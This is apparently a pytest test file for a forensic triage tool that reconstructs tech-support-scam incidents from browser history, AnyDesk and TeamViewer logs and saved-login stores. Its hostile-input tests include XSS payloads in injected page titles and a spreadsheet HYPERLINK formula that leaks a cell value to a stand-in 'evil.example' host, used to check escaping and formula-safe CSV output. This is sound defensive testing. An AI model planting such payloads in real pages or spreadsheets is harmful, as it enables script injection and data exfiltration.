"""The triage pipeline: linking, findings, story, leak scope, advice, outputs and evidence handling.

End-to-end tests run every collector on a collection built here from the real artifacts in
../shared/fixtures/forensics (AnyDesk traces, TeamViewer connection list, plaso's Chrome History
with three rows added: a scam page, the AnyDesk download, a bank login). Unit tests feed
hand-built records to the analysis.
"""

from __future__ import annotations

import calendar
import csv
import hashlib
import json
import os
import shutil
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from scamscope.triage import pipeline
from scamscope.triage.advice import advise
from scamscope.triage.evidence import compare, hash_inputs, input_files
from scamscope.triage.findings import build_findings
from scamscope.triage.leak import assess
from scamscope.triage.link import dedupe, link, normalise_times
from scamscope.triage.passwords import PasswordStore
from scamscope.triage.pipeline import TriageError, run
from scamscope.triage.story import reconstruct
from scamscope.triage.types import Collected, Event, Ref, Session, Software, Transfer, Visit
from tests.conftest import SHARED, require_shared

FORENSICS = SHARED / "fixtures" / "forensics"
ANYDESK = FORENSICS / "dfir-artifact-museum" / "Windows" / "AnyDesk"
CHROME_HISTORY = FORENSICS / "plaso" / "test_data" / "chrome" / "History"
TV_INCOMING = FORENSICS / "plaso" / "test_data" / "teamviewer" / "connections_incoming.txt"
CHROME_DIR = "Users/alice/AppData/Local/Google/Chrome/User Data/Default"
SCAM_URL = "https://windows-defender-alert.example-support.xyz/ja/"
SCAM_TITLE = "Windows Defender セキュリティ警告 - ウイルスが検出されました サポートに電話 0101-844-555-0199"
BANK_URL = "https://www.smbc.co.jp/kojin/direct/"
WINDOW = timedelta(minutes=120)


def t(s: str) -> datetime:
    return datetime.fromisoformat(s).replace(tzinfo=UTC)


def _webkit(ts: datetime) -> int:
    return int((ts - datetime(1601, 1, 1, tzinfo=UTC)).total_seconds() * 1_000_000)


def _copy(src: Path, dst: Path) -> None:
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(require_shared(src), dst)


def add_history_rows(history: Path) -> None:
    """Add a scam page visit, the AnyDesk download and a bank login to a copy of a real Chrome History."""
    db = sqlite3.connect(history)
    for url, title, ts in ((SCAM_URL, SCAM_TITLE, t("2022-08-23T10:05:00")), (BANK_URL, "SMBCダイレクト ログイン", t("2022-08-23T10:40:00"))):
        cur = db.execute("insert into urls(url, title, visit_count, typed_count, last_visit_time) values (?, ?, 1, 0, ?)",
                         (url, title, _webkit(ts)))
        db.execute("insert into visits(url, visit_time, from_visit, transition) values (?, ?, 0, 805306368)", (cur.lastrowid, _webkit(ts)))
    # this History is schema version 20: downloads.start_time is Unix time
    db.execute("insert into downloads(full_path, url, start_time, received_bytes, total_bytes, state) values (?, ?, ?, 3000000, 3000000, 1)",
               ("C:\\Users\\alice\\Downloads\\AnyDesk.exe", "https://download.anydesk.com/AnyDesk.exe",
                calendar.timegm(t("2022-08-23T10:12:00").timetuple())))
    db.commit()
    db.close()


def add_login_data(path: Path) -> None:
    """A Chrome ``Login Data`` with 3 saved logins (2 sites) and 1 'never save' row; the secrets are dummies."""
    path.parent.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(path)
    db.execute("create table logins (origin_url varchar not null, action_url varchar, username_element varchar, username_value varchar,"
               " password_element varchar, password_value blob, submit_element varchar, signon_realm varchar not null,"
               " date_created integer not null, blacklisted_by_user integer not null, scheme integer not null)")
    rows = [("https://www.smbc.co.jp/login", "alice01", 0), ("https://mail.example.jp/", "alice", 0),
            ("https://mail.example.jp/other", "alice2", 0), ("https://never.example.com/", "", 1)]
    for url, user, blocked in rows:
        db.execute("insert into logins values (?, '', '', ?, '', ?, '', ?, 0, ?, 0)", (url, user, b"v10-not-a-secret", url, blocked))
    db.commit()
    db.close()


def build_collection(root: Path, teamviewer: bool = True) -> Path:
    """A partial collection (Users/ and ProgramData/, no Windows/) with the real AnyDesk traces at their paths."""
    c = root / "C"
    for name in ("ad_svc.trace", "connection_trace.txt", "service.conf"):
        _copy(ANYDESK / name, c / "ProgramData" / "AnyDesk" / name)
    _copy(ANYDESK / "ad.trace", c / "Users" / "alice" / "AppData" / "Roaming" / "AnyDesk" / "ad.trace")
    if teamviewer:
        _copy(TV_INCOMING, c / "Program Files" / "TeamViewer" / "Connections_incoming.txt")
    _copy(CHROME_HISTORY, c / CHROME_DIR / "History")
    add_history_rows(c / CHROME_DIR / "History")
    add_login_data(c / CHROME_DIR / "Login Data")
    ff = c / "Users" / "alice" / "AppData" / "Roaming" / "Mozilla" / "Firefox" / "Profiles" / "x1y2.default-release" / "logins.json"
    ff.parent.mkdir(parents=True)
    ff.write_text(json.dumps({"nextId": 3, "logins": [{"id": 1, "hostname": "https://shop.example.jp", "encryptedUsername": "MD..",
                                                         "encryptedPassword": "MD.."}, {"id": 2, "hostname": "https://www.smbc.co.jp"}]}))
    return root


def fingerprint(root: Path) -> dict[str, tuple[str, int]]:
    """SHA-256 and mtime of every file, computed here independently of scamscope.triage.evidence."""
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_file():
            out[p.relative_to(root).as_posix()] = (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns)
    return out


@pytest.fixture(scope="module")
def triaged(tmp_path_factory: pytest.TempPathFactory) -> tuple[pipeline.TriageResult, Path, dict[str, tuple[str, int]]]:
    root = build_collection(tmp_path_factory.mktemp("evidence"))
    before = fingerprint(root)
    result = run(root, tmp_path_factory.mktemp("case") / "case", command=["scamscope", "triage", str(root)], progress=None, pdf=False)
    return result, root, before


# --- end to end on the real artifacts -------------------------------------------------------------


def test_sessions_ids_ips_from_the_real_traces(triaged) -> None:
    result, _, _ = triaged
    anydesk = [s for s in result.collected.sessions if s.tool == "anydesk"]
    assert [(s.remote_id, s.remote_ip, s.start) for s in anydesk] == [
        ("547911884", "12.xx.xx.21", datetime(2022, 8, 23, 10, 20, 17, 125000, tzinfo=UTC)),
        ("442226597", "12.xx.xx.21", datetime(2022, 9, 28, 12, 39, 26, 845000, tzinfo=UTC)),
    ]
    tv = [s for s in result.collected.sessions if s.tool == "teamviewer"]
    assert [(s.remote_id, s.start, round(s.seconds or 0)) for s in tv] == [("1660360496", t("2024-02-16T14:16:32"), 124)]
    assert [s.id for s in result.collected.sessions] == ["S01", "S02", "S03"]  # numbered in time order
    assert [s.tool for s in result.collected.sessions] == ["anydesk", "anydesk", "teamviewer"]


def test_timeline_sorted_numbered_and_every_cited_id_exists(triaged) -> None:
    result, _, _ = triaged
    events = result.collected.events
    assert [e.id for e in events] == [f"E{i:04d}" for i in range(1, len(events) + 1)]
    assert all(a.ts <= b.ts for a, b in zip(events, events[1:], strict=False))
    known = {e.id for e in events} | {s.id for s in result.collected.sessions}
    cited = {i for f in result.findings for i in f.evidence} | {i for s in result.story for i in s.evidence}
    cited |= {i for item in result.leak.items for i in item.evidence}
    assert cited and cited <= known
    # 74 rows of plaso's History (55 urls' visits + 2 downloads + our 3 rows) are all on the timeline
    assert sum(1 for e in events if e.kind.startswith("browser.")) == 74


def test_findings_on_the_collection(triaged) -> None:
    result, _, _ = triaged
    kinds = {f.kind: f for f in result.findings}
    assert {"scam_page", "remote_sessions", "money_during_session", "file_transfers", "tool_download", "remote_tool_present"} <= set(kinds)
    scam = kinds["scam_page"]
    assert scam.severity == "high" and scam.first == t("2022-08-23T10:05:00")
    by_id = {e.id: e for e in result.collected.events}
    assert any(SCAM_URL in by_id[i].message for i in scam.evidence)
    money = kinds["money_during_session"]
    assert money.data["window"] == "after_start" and "S01" in money.evidence  # AnyDesk logs no session end
    assert any(BANK_URL in by_id[i].message for i in money.evidence if i.startswith("E"))
    assert kinds["tool_download"].tool == "anydesk"
    assert result.found
    assert [f.id for f in result.findings] == [f"F{i:02d}" for i in range(1, len(result.findings) + 1)]
    assert result.findings[0].severity == "high"


def test_story_order_and_call_window(triaged) -> None:
    result, _, _ = triaged
    steps = {s.key: s for s in result.story}
    assert [s.key for s in result.story] == ["scam_page", "call_window", "download", "install", "sessions", "file_transfers", "payment"]
    call = steps["call_window"]
    assert call.status == "inferred"
    assert (call.start, call.end) == (t("2022-08-23T10:05:00"), t("2022-08-23T10:12:00"))
    assert steps["download"].status == "found" and steps["sessions"].status == "found"
    assert steps["install"].status == "not_found"  # a partial collection: no registry, no Amcache
    assert steps["payment"].status == "found" and BANK_URL in steps["payment"].text


def test_leak_scope_and_saved_password_counts(triaged) -> None:
    result, _, _ = triaged
    stores = {s.browser: s for s in result.stores}
    assert (stores["Chrome"].saved, stores["Chrome"].never_saved, stores["Chrome"].sites) == (3, 1, ["mail.example.jp", "www.smbc.co.jp"])
    assert (stores["Firefox"].saved, stores["Firefox"].sites) == (2, ["shop.example.jp", "www.smbc.co.jp"])
    items = {i.topic: i for i in result.leak.items}
    assert set(items) == {"access", "file_transfers", "money_pages", "saved_passwords"}
    assert "3 saved login(s)" in items["saved_passwords"].statement
    assert "alice01" not in json.dumps(result.leak.to_dict())  # user names and secrets are never read
    assert items["money_pages"].confidence == "low"  # only within the assumed window after an AnyDesk start
    assert "2 min in all" in items["access"].statement  # the TeamViewer session: 124 s
    keys = [a.key for a in result.advice]
    assert keys[0] == "bank" and "passwords" in keys and "report" in keys and "dont_call" in keys
    assert all(a.ja and a.en and a.source and a.because for a in result.advice)


def test_outputs_timesketch_csv_findings(triaged) -> None:
    result, _, _ = triaged
    out = result.out
    lines = (out / "timeline.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(result.collected.events)
    rows = [json.loads(x) for x in lines]
    assert all({"message", "datetime", "timestamp_desc", "timestamp"} <= r.keys() for r in rows)
    assert all(datetime.fromisoformat(r["datetime"]).tzinfo is not None for r in rows)
    scam = next(r for r in rows if SCAM_URL in r["message"])
    assert "scam_page" in scam["tag"] and "scam_page" in scam["story_step"]
    assert {type(r["source_line"]) for r in rows} <= {int, type(None)}  # one type per field (typed imports)
    assert any(isinstance(r["source_line"], int) for r in rows)
    raw = (out / "timeline.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # Excel on a Japanese PC
    with (out / "timeline.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert [r["event_id"] for r in table] == [e.id for e in result.collected.events]
    assert not any(v.startswith(("=", "@")) for r in table for v in r.values())
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    assert doc["summary"]["sessions"] == 3 and doc["summary"]["first_contact"] == "2022-08-23T10:05:00+00:00"
    assert [s["remote_id"] for s in doc["sessions"]] == ["547911884", "442226597", "1660360496"]
    assert doc["evidence"]["unchanged"] is True
    html = (out / "report.html").read_text(encoding="utf-8")
    for heading in ("1. Summary", "2. Method", "3. Findings", "4. Timeline", "5. Interpretation", "6. Limitations", "被害者の方への助言"):
        assert heading in html
    assert SCAM_URL in html and "547911884" in html and 'id="S01"' in html


def test_evidence_untouched_and_hashes_recorded(triaged) -> None:
    result, root, before = triaged
    assert fingerprint(root) == before
    ev = json.loads((result.out / "evidence.json").read_text(encoding="utf-8"))
    assert ev["unchanged"] is True and ev["changed"] == []
    recorded = {f["path"]: f["sha256"] for f in ev["inputs_before"]}
    assert recorded == {k: v[0] for k, v in before.items()}
    assert {f["path"]: f["sha256"] for f in ev["inputs_after"]} == recorded
    assert ev["command"][:2] == ["scamscope", "triage"] and ev["versions"]["dissect.target"].startswith("3.")
    assert ev["started"] <= ev["ended"]


# --- hostile and corrupt input --------------------------------------------------------------------


def test_corrupt_logs_give_problems_and_partial_results(tmp_path: Path) -> None:
    root = build_collection(tmp_path / "ev", teamviewer=False)
    svc = root / "C" / "ProgramData" / "AnyDesk" / "ad_svc.trace"
    svc.write_bytes(os.urandom(3000))
    history = root / "C" / CHROME_DIR / "History"
    history.write_bytes(history.read_bytes()[:9000])
    (root / "C" / CHROME_DIR / "Login Data").write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)
    result = run(root, tmp_path / "case", progress=None, pdf=False)
    paths = {(p.path or "") for p in result.problems if p.severity == "warning"}
    assert any(p.endswith("ad_svc.trace") for p in paths)
    assert any(p.endswith("Default/History") for p in paths)
    assert any(p.endswith("Default/Login Data") for p in paths)
    # ad.trace (the user's trace) is intact: its session still comes out
    assert "442226597" in {s.remote_id for s in result.collected.sessions}
    assert (tmp_path / "case" / "report.html").exists()


def test_a_failing_collector_is_kept_as_a_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = build_collection(tmp_path / "ev", teamviewer=False)
    real = pipeline.all_collectors()

    def broken(ctx: object) -> Collected:
        raise RuntimeError("boom")

    monkeypatch.setattr(pipeline, "all_collectors", lambda: [("aaa_broken", broken), *real])
    result = run(root, tmp_path / "case", progress=None, pdf=False)
    errors = [p for p in result.problems if p.severity == "error"]
    assert errors and errors[0].source == "collector aaa_broken" and "RuntimeError: boom" in errors[0].message
    assert result.runs[0].error and len(result.collected.sessions) == 2


def test_garbage_and_misplaced_output_are_refused(tmp_path: Path) -> None:
    junk = tmp_path / "junk.bin"
    junk.write_bytes(os.urandom(50_000))
    with pytest.raises(TriageError, match="junk.bin"):
        run(junk, tmp_path / "case", progress=None, pdf=False)
    root = tmp_path / "ev"
    (root / "Users" / "bob").mkdir(parents=True)
    with pytest.raises(TriageError, match="inside the evidence"):
        run(root, root / "Users" / "case", progress=None, pdf=False)
    with pytest.raises(TriageError, match="no such file"):
        run(tmp_path / "absent", tmp_path / "case", progress=None, pdf=False)
    assert not (root / "Users" / "case").exists()


def test_hash_helpers_find_changes_and_image_segments(tmp_path: Path) -> None:
    (tmp_path / "case.E01").write_bytes(b"a")
    (tmp_path / "case.E02").write_bytes(b"b")
    (tmp_path / "other.E01").write_bytes(b"c")
    assert [p.name for p in input_files(tmp_path / "case.E01")] == ["case.E01", "case.E02"]
    before = hash_inputs(tmp_path / "case.E01")
    (tmp_path / "case.E02").write_bytes(b"changed")
    changed = compare(before, hash_inputs(tmp_path / "case.E01"))
    assert len(changed) == 1 and "case.E02: changed" in changed[0]
    # a FIFO in a hostile collection is listed, never opened (reading it would block for ever)
    folder = tmp_path / "collection"
    folder.mkdir()
    os.mkfifo(folder / "pipe")
    (folder / "a.txt").write_text("x")
    rows = {f.path: f for f in hash_inputs(folder)}
    assert rows["pipe"].sha256 is None and "not a regular file" in (rows["pipe"].error or "")
    assert rows["a.txt"].sha256 == hashlib.sha256(b"x").hexdigest()


# --- the analysis on hand-built records -----------------------------------------------------------


def _scenario() -> Collected:
    ref = Ref("test", "C:/test.log", 1)
    c = Collected()
    c.visits = [
        Visit(t("2024-05-01T01:00:00"), "https://scam.example/", "警告", "Chrome", ref, verdict="scam", score=0.97, tags=["scam_page"]),
        Visit(t("2024-05-01T01:05:00"), "https://get.example/AnyDesk.exe", "", "Chrome", Ref("test", "C:/h", 2), kind="download",
              target_path="C:\\Users\\a\\Downloads\\AnyDesk.exe"),
        Visit(t("2024-05-01T01:30:00"), "https://bank.example/", "Bank", "Chrome", Ref("test", "C:/h", 3), tags=["banking"]),
    ]
    c.software = [Software("AnyDesk", "uninstall_entry", Ref("Uninstall", "HKLM"), installed=t("2024-05-01T01:08:00"),
                           match="anydesk", category="remote_tool")]
    start = t("2024-05-01T01:10:00")
    c.sessions = [Session("anydesk", start, t("2024-05-01T02:00:00"), remote_id="123456789", remote_ip="203.0.113.7",
                          transfers=[Transfer(t("2024-05-01T01:40:00"), "passwords.xlsx", "from_victim", "anydesk")], refs=[ref])]
    # a collector's own event for the session start: must be reused, not duplicated
    c.events = [Event(start, "remote.session_start", "AnyDesk session", "Connection Start", ref, tool="anydesk")]
    return c


def test_link_adds_missing_events_once_and_numbers_them() -> None:
    c = _scenario()
    links = link(c, WINDOW)
    kinds = [e.kind for e in c.events]
    assert kinds.count("remote.session_start") == 1 and kinds.count("remote.session_end") == 1
    assert kinds.count("remote.file_transfer") == 1 and kinds.count("browser.download") == 1
    assert [e.id for e in c.events] == [f"E{i:04d}" for i in range(1, 8)]  # 3 visits, start, end, transfer, install
    bank = next(e for e in c.events if "bank.example" in e.message)
    assert "during_remote_session" in bank.tags and bank.fields["session"] == "S01"
    assert links.of(c.sessions[0]) and all(i.startswith("E") for i in links.of(c.visits[0]))


def test_findings_story_leak_advice_from_records() -> None:
    c = _scenario()
    links = link(c, WINDOW)
    findings = build_findings(c, links, WINDOW)
    kinds = [f.kind for f in findings]
    assert {"scam_page", "tool_download", "remote_tool_present", "remote_sessions", "file_transfers", "money_during_session"} == set(kinds)
    present = next(f for f in findings if f.kind == "remote_tool_present")
    assert present.data["still_installed"] is True
    # removed: "no evidence" with a registry to look in, "unknown" without one
    from scamscope.triage.types import NO_SOFTWARE_HIVE, Problem

    gone = _scenario()
    gone.software = [sw for sw in gone.software if sw.evidence not in ("uninstall_entry", "service", "file")]
    gone_links = link(gone, WINDOW)
    without = next(f for f in build_findings(gone, gone_links, WINDOW) if f.kind == "remote_tool_present")
    assert without.data["still_installed"] is False and "No evidence it is still installed" in without.detail
    gone.problems.append(Problem(NO_SOFTWARE_HIVE, "no registry in the target (SOFTWARE hive missing): machine-wide installed programs unknown", severity="info"))
    unknown = next(f for f in build_findings(gone, gone_links, WINDOW) if f.kind == "remote_tool_present")
    assert unknown.data["still_installed"] is None and "Unknown whether it is still installed" in unknown.detail
    story = reconstruct(c, links, WINDOW)
    assert [s.status for s in story] == ["found", "inferred", "found", "found", "found", "found", "found"]
    assert (story[1].start, story[1].end) == (t("2024-05-01T01:00:00"), t("2024-05-01T01:05:00"))
    stores = [PasswordStore("Chrome", "a", "C:/x/Login Data", saved=4, sites=["bank.example"])]
    leak = assess(c, links, stores, WINDOW, [])
    assert leak.level == "high" and "passwords.xlsx" in next(i for i in leak.items if i.topic == "file_transfers").statement
    assert "50 min in all" in next(i for i in leak.items if i.topic == "access").statement
    keys = [a.key for a in advise(findings, stores)]
    assert keys[:3] == ["bank", "preserve_then_uninstall", "passwords"]
    assert "nothing" not in keys


def test_nothing_found_gives_the_nothing_advice_only() -> None:
    c = Collected()
    c.visits = [Visit(t("2024-01-01T00:00:00"), "https://news.example/", "News", "Chrome", Ref("t", "C:/h"))]
    links = link(c, WINDOW)
    findings = build_findings(c, links, WINDOW)
    assert findings == []
    assert [a.key for a in advise(findings, [])] == ["nothing"]
    assert assess(c, links, [], WINDOW, []).level == "none"


def test_naive_times_are_taken_as_utc_and_counted() -> None:
    c = Collected()
    c.events = [Event(datetime(2024, 1, 1, 9, 0), "remote.log", "x", "Log Time", Ref("t", "p"))]
    assert normalise_times(c) == 1 and c.events[0].ts.tzinfo is not None


def test_duplicates_from_two_paths_are_merged() -> None:
    start, end = t("2024-02-16T14:16:32"), t("2024-02-16T14:18:36")
    a = Ref("TeamViewer Connections_incoming.txt", "C:/Program Files/TeamViewer/Connections_incoming.txt", 2)
    b = Ref("TeamViewer Connections_incoming.txt", "/sysvol/Program Files/TeamViewer/Connections_incoming.txt", 2)
    c = Collected()
    c.sessions = [Session("teamviewer", start, end, remote_id="1660360496", refs=[a]),
                  Session("teamviewer", start, end, remote_id="1660360496", refs=[b],
                          transfers=[Transfer(t("2024-02-16T14:18:08"), "x.crt", "to_victim", "teamviewer", ref=b)]),
                  Session("teamviewer", start, end, remote_id="999")]
    c.events = [Event(start, "remote.session_start", "TeamViewer session", "Connection Start", r, tool="teamviewer") for r in (a, b)]
    # a collector's transfer event whose text does not repeat the file name: linked through its source line
    c.events.append(Event(t("2024-02-16T14:18:08"), "remote.file_transfer", "copy attempt", "File Transfer", b, tool="teamviewer"))
    assert dedupe(c) == 2
    assert [s.remote_id for s in c.sessions] == ["1660360496", "999"] and len(c.sessions[0].transfers) == 1
    link(c, WINDOW)
    assert [e.kind for e in c.events].count("remote.file_transfer") == 1
    assert [e.kind for e in c.events].count("remote.session_start") == 2  # one per remaining session (999's is added)


def test_hostile_page_titles_are_escaped_in_the_report(tmp_path: Path) -> None:
    root = build_collection(tmp_path / "ev", teamviewer=False)
    db = sqlite3.connect(root / "C" / CHROME_DIR / "History")
    ts = _webkit(t("2022-08-23T10:30:00"))
    cur = db.execute("insert into urls(url, title, visit_count, typed_count, last_visit_time) values (?, ?, 1, 0, ?)",
                     ("https://evil.example/<img src=x onerror=alert(1)>", "<script>alert('x')</script> ウイルス検出", ts))
    db.execute("insert into visits(url, visit_time, from_visit, transition) values (?, ?, 0, 805306368)", (cur.lastrowid, ts))
    db.commit()
    db.close()
    result = run(root, tmp_path / "case", progress=None, pdf=False)
    html = (result.out / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in html  # the visit is in the report (during S01's window), as text
    assert "<script>" not in html and "<img src=x" not in html


def test_timeline_csv_is_formula_safe(tmp_path) -> None:
    """A page title from the victim's history lands in timeline.csv as text, never as a formula."""
    from datetime import UTC

    from scamscope.triage.report.timeline import write_csv, write_jsonl
    from scamscope.triage.types import Event, Ref

    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Windows Defender")'
    events = [
        Event(ts=datetime(2024, 2, 16, 14, 0, tzinfo=UTC), kind="browser.visit", message=hostile, timestamp_desc="Visit Time", ref=Ref("Chrome History", "C:/Users/v/History", 7)),
        Event(ts=datetime(2024, 2, 16, 14, 1, tzinfo=UTC), kind="software.installed", message="@SUM(1+1)", timestamp_desc="Install Time", ref=Ref("SOFTWARE", "HKLM/Software")),
    ]
    write_csv(events, {}, tmp_path / "t.csv")
    write_jsonl(events, {}, tmp_path / "t.jsonl")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert table[0]["message"] == "'" + hostile and table[1]["message"] == "'@SUM(1+1)"
    assert table[0]["source_line"] == "7" and table[1]["source_line"] == ""
    rows = [json.loads(x) for x in (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()]
    assert rows[0]["message"] == hostile and rows[0]["source_line"] == 7 and rows[1]["source_line"] is None
